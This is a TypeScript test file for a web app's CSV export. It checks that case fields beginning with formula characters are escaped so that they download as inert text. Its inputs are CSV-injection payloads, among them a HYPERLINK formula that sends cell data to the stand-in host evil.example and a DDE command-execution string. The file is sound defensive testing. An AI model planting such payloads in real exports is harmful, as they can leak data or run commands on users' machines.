import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { buildTestApp } from '../../test/support/app.ts';
import { engines } from '../../test/support/engines.ts';
import { releaseDecisions, setUpReview } from '../../test/support/review.ts';

for (const engine of engines()) {
  describe(`cases.csv on ${engine}`, () => {
    test('a published case whose fields start like formulas downloads as inert text', async (t) => {
      const { app } = await buildTestApp(t, engine);
      const setup = await setUpReview(app, {
        title: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        organisation: '@SUM(1+1)',
        summary: '+cmd|/c calc!A0 and the rest of a summary about a register of algorithms.',
      });
      await releaseDecisions(setup);
      const csv = await app.inject('/cases.csv');
      assert.equal(csv.statusCode, 200);
      const line = csv.body.split('\r\n')[1]!;
      assert.match(line, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Open""\)",/);
      assert.match(line, /,'\+cmd\|\/c calc!A0 and the rest/);
      assert.match(line, /,'@SUM\(1\+1\),/);
      assert.doesNotMatch(csv.body, /,=|,\+|,@|,"=|,"\+|,"@/, 'no cell starts with a formula character');
    });
  });
}
